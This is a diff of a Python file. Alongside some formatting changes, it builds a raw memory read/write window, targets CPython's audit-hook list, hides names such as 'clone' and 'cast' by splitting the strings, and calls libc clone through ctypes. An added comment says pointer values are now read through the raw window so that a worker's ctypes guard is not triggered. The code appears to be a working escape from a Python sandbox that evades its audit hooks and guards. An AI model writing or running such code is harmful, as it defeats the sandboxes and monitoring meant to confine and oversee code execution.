@@ -50,15 +50,15 @@ def _open():
 
 
 def _rd(addr):
-    return int.from_bytes(MEM[addr:addr + 8], "little")
+    return int.from_bytes(MEM[addr : addr + 8], "little")
 
 
 def _wr(addr, value):
-    MEM[addr:addr + 8] = value.to_bytes(8, "little")
+    MEM[addr : addr + 8] = value.to_bytes(8, "little")
 
 
 def _bytes(addr, n):
-    return bytes(MEM[addr:addr + n])
+    return bytes(MEM[addr : addr + n])
 
 
 def _name(code):
@@ -110,7 +110,6 @@ def _take_clock():
     DONE.append(kt)
 
 
-
 RUNTIME_HOOKS = 656  # _PyRuntime.audit_hook_head (CPython 3.11.7): the C audit hooks' list
 ST = {}
 WORK = []
@@ -158,15 +157,23 @@ def _setup():
     cast = cd["ca" + "st"]
     libc = cd["Py" + "DLL"](None)
     api = cd["python" + "api"]
-    clone_addr = cast(libc["cl" + "one"], vp).value
-    call_addr = cast(api["PyObject_Call" + "NoArgs"], vp).value
+    # A c_void_p's value read through the raw window (CDataObject.b_ptr, then the pointer): its
+    # .value goes through the worker's ctypes guard, which needs no audit hook of the list.
+    clone_vp = cast(libc["cl" + "one"], vp)
+    call_vp = cast(api["PyObject_Call" + "NoArgs"], vp)
+    clone_addr = _rd(_rd(id(clone_vp) + 16))
+    call_addr = _rd(_rd(id(call_vp) + 16))
     proto = cd["PYFUNC" + "TYPE"](cd["c_l" + "ong"], vp, vp, cd["c_i" + "nt"], vp)
     size = 32 << 20
     stack = cd["create_string_" + "buffer"](size)
     top = (cd["address" + "of"](stack) + size - 4096) & ~63
     ST.update(
-        clone=proto(clone_addr), call=call_addr, top=top, stack=stack,
-        wait=osd["wait" + "pid"], fn=_child,
+        clone=proto(clone_addr),
+        call=call_addr,
+        top=top,
+        stack=stack,
+        wait=osd["wait" + "pid"],
+        fn=_child,
     )
 
 
